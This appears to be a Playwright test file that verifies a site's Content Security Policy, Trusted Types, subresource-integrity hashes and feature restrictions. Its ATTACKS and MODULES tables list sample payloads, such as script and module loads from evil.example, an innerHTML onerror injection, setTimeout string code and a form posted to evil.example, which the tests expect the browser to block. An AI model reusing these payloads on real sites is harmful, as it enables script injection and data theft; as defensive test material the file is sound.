import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliDecompressSync } from 'node:zlib';

import type { Page } from '@playwright/test';

import { THIRD_PARTIES } from '../support/network/addresses';
import { SiteProcess } from '../support/delivery/site-process';
import { expect, test } from '../support/running/visit';

const DIST = join(import.meta.dirname, '../../dist');

const CODE = 'DVDQDWM7GJ4R';

/**
 * Module imports, for which browsers do not use Trusted Types. The test waits for the violation of the policy; the import
 * itself fails later, at an uncertain time.
 */
const MODULES = {
  'import a module from elsewhere': () => {
    import(new URL('https://evil.example/x.js').href).catch(() => undefined);
  },
  'preload a module from elsewhere': () => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = 'https://evil.example/x.js';
    document.head.append(link);
  },
  'import a module out of a text': () => {
    import(new URL('data:text/javascript,window.isAttacked = true').href).catch(() => undefined);
  },
  'import a module out of a blob': () => {
    const blob = new Blob(['window.isAttacked = true'], { type: 'text/javascript' });
    import(URL.createObjectURL(blob)).catch(() => undefined);
  },
};

/** Browser features that the site does not use and that would help an attacker most. */
const SENSITIVE = [
  ...[
    'accelerometer',
    'bluetooth',
    'clipboard-read',
    'display-capture',
    'geolocation',
    'gyroscope',
  ],
  ...['hid', 'idle-detection', 'local-fonts', 'magnetometer', 'microphone', 'midi', 'payment'],
  ...['publickey-credentials-get', 'screen-wake-lock', 'serial', 'usb', 'xr-spatial-tracking'],
];

/** Attacks that the content policy must stop. The page that only reports Trusted Types tries the other modules. */
const ATTACKS = {
  'import a module from elsewhere': MODULES['import a module from elsewhere'],
  'load a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  },
  'make markup of a text': () => {
    Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.isAttacked = true">');
  },
  'make code of a text': () => {
    setTimeout('window.isAttacked = true' as unknown as () => void);
  },
  'write a script into the page': () => {
    const script = document.createElement('script');
    script.textContent = 'window.isAttacked = true';
    document.head.append(script);
  },
  'make another policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void };
    };
    trustedTypes.createPolicy('evil', { createScriptURL: (url: string) => url });
  },
  'be shown in a frame of another': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'take a picture from anywhere': () => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/x.png';
    document.body.append(image);
  },
  'move the base of all addresses': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  },
  // The last one, because the browser waits for the next page then.
  'send a form away': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
};

test('every script and style sheet of the site has the released bytes @I4', async ({
  page,
  home,
  chooser,
  renew,
}) => {
  await renew(CODE);
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    new MutationObserver((changes) => {
      for (const node of changes.flatMap(({ addedNodes }) => [...addedNodes])) {
        const isScript = node instanceof HTMLScriptElement && node.src !== '';
        const isSheet = node instanceof HTMLLinkElement && node.rel === 'stylesheet';
        if (isScript) seen.push(`${node.src} ${node.crossOrigin ?? ''} ${node.integrity}`);
        if (isSheet) seen.push(`${node.href} ${node.crossOrigin ?? ''} ${node.integrity}`);
      }
    }).observe(document, { childList: true, subtree: true });
  });

  await home.open();
  await home.goOnWith(CODE);
  await expect(chooser.heading).toBeVisible();
  await page.getByRole('banner').getByRole('link', { name: 'Support' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Support and FAQ');

  const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  const own = seen.filter((one) => !one.startsWith(THIRD_PARTIES));
  expect(own.length).toBeGreaterThan(10);
  for (const one of own) {
    expect(one).toMatch(/^http:\S+\.(js|css) anonymous sha384-[A-Za-z0-9+/]{64}$/);
  }
});

test('every file that a release loads later is named with its hash @I4', () => {
  for (const release of [...releasesIn('remotes/*'), ...releasesIn('shell')]) {
    const files = textsOf(release);
    // The registry names the entry.
    const later = [...files.keys()].filter(
      (file) => /\.(js|css)$/.test(file) && !file.startsWith('remoteEntry.'),
    );
    expect(later.length).toBeGreaterThan(5);
    for (const file of later) {
      const hash = createHash('sha384').update(files.get(file) ?? '');
      const integrity = `sha384-${hash.digest('base64')}`;
      expect(
        [...files.values()].filter((text) => text.includes(integrity)),
        file,
      ).not.toEqual([]);
    }
  }
});

test('a page cannot make an attack that the content policy must stop @I1', async ({
  page,
  complaints,
}) => {
  await page.goto('/error');

  for (const [attack, make] of Object.entries(ATTACKS)) {
    await test.step(attack, () => expectRefused(page, make, complaints));
  }
});

test('a page that only reports Trusted Types loads no modules of other origins @I1', async ({
  page,
  complaints,
}) => {
  const site = await SiteProcess.start(DIST, { TRUSTED_TYPES: 'report' });

  for (const make of Object.values(MODULES)) {
    // A new page for each: a browser may remember that the module of another attack was refused.
    await page.goto(`${site.url}/error`);
    await expectRefused(page, make, complaints);
  }
  await site.stop();
});

test('a page runs a captcha that loads scripts of a second origin @I1', async ({
  page,
  complaints,
}) => {
  const site = await SiteProcess.start(DIST, {
    CAPTCHA_SCRIPT_URL: 'https://www.google.com/recaptcha/api.js',
  });
  const rest = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js';
  await page.route('https://www.google.com/recaptcha/api.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `document.head.append(Object.assign(document.createElement('script'), { src: '${rest}' }))`,
    }),
  );
  await page.route(rest, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.isHuman = true' }),
  );
  await page.goto(`${site.url}/error`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://www.google.com/recaptcha/api.js';
    document.head.append(script);
  });

  await page.waitForFunction(() => 'isHuman' in window);
  expect(complaints.filter((complaint) => complaint.includes('policy'))).toEqual([]);
  complaints.length = 0;
  await site.stop();
});

test('a page may use the browser features that it needs @I1', async ({ page }) => {
  await page.goto('/error');

  const allowed = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as {
      featurePolicy: { allowedFeatures: () => string[] };
    };
    return featurePolicy.allowedFeatures();
  });

  // Not all that are allowed: the next version of the browser may know a feature more.
  expect(allowed).toEqual(expect.arrayContaining(['autoplay', 'camera', 'clipboard-write']));
  expect(allowed.filter((name) => SENSITIVE.includes(name))).toEqual([]);
});

async function expectRefused(page: Page, make: () => void, complaints: string[]): Promise<void> {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const asked: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    asked.push(route.request().url());
    await route.abort();
  });
  complaints.length = 0;

  await page.evaluate(make).catch(() => undefined);

  await expect.poll(() => complaints.join()).toMatch(/Content Security Policy|Trusted|policy/);
  expect(await page.evaluate(() => 'isAttacked' in window)).toBe(false);
  expect(asked).toEqual([]);
  complaints.length = 0;
}

/** The scripts, style sheets and page of a release, by name. A site stores them as Brotli. */
function textsOf(release: string): Map<string, string> {
  const stored = readdirSync(release).filter((file) => /\.(js|css|html)\.br$/.test(file));
  return new Map(
    stored.map((file) => [
      file.slice(0, -'.br'.length),
      brotliDecompressSync(readFileSync(join(release, file))).toString(),
    ]),
  );
}

/** The folders of the versions below `dist/`; `*` stands for every name. */
function releasesIn(place: string): string[] {
  const [first = '', ...rest] = place.split('/');
  const parents = rest.reduce(
    (folders) => folders.flatMap((folder) => readdirSync(folder).map((name) => join(folder, name))),
    [join(DIST, first)],
  );
  return parents.flatMap((folder) => readdirSync(folder).map((version) => join(folder, version)));
}
